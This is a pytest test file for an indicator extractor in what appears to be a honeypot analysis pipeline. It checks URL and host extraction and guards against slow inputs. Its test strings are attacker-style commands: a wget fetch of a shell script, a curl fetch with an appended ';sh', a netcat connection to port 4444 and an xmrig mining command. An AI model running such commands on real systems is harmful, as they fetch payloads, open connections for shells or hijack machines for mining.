"""Which URLs and hosts a text names, and that hostile texts cost no time."""

import time

import pytest

from rustbucket_pipeline.analysis.indicators import named_in


@pytest.mark.parametrize(
    ("told", "named"),
    [
        ("wget http://203.0.113.9/a.sh", {("url", "http://203.0.113.9/a.sh"), ("host", "203.0.113.9")}),
        ("curl HTTP://Evil.Example:81/a;sh", {("url", "HTTP://Evil.Example:81/a"), ("host", "evil.example")}),
        ("nc 198.51.100.1 4444", {("host", "198.51.100.1")}),
        ("nc 999.1.1.1 80; echo 1.2.3.4.5 v1.2.3.4", set()),
        (
            "./xmrig -o stratum+tcp://pool.example:3333",
            {("url", "stratum+tcp://pool.example:3333"), ("host", "pool.example")},
        ),
        ("cat notes.txt", set()),
        ("http://1.1.1.1/ 2.2.2.2", {("url", "http://1.1.1.1/"), ("host", "1.1.1.1"), ("host", "2.2.2.2")}),
    ],
)
def test_urls_and_hosts_are_found_as_written(told: str, named: set[tuple[str, str]]) -> None:
    assert named_in(told) == named


@pytest.mark.parametrize("unit", ["a.", "1.", "://", "http://", "http://a.", "1.1.1.1-", "a" * 63 + "."])
def test_a_hostile_text_takes_no_time(unit: str) -> None:
    started = time.process_time()
    named_in((unit * 8192)[:8192])
    assert time.process_time() - started < 0.5
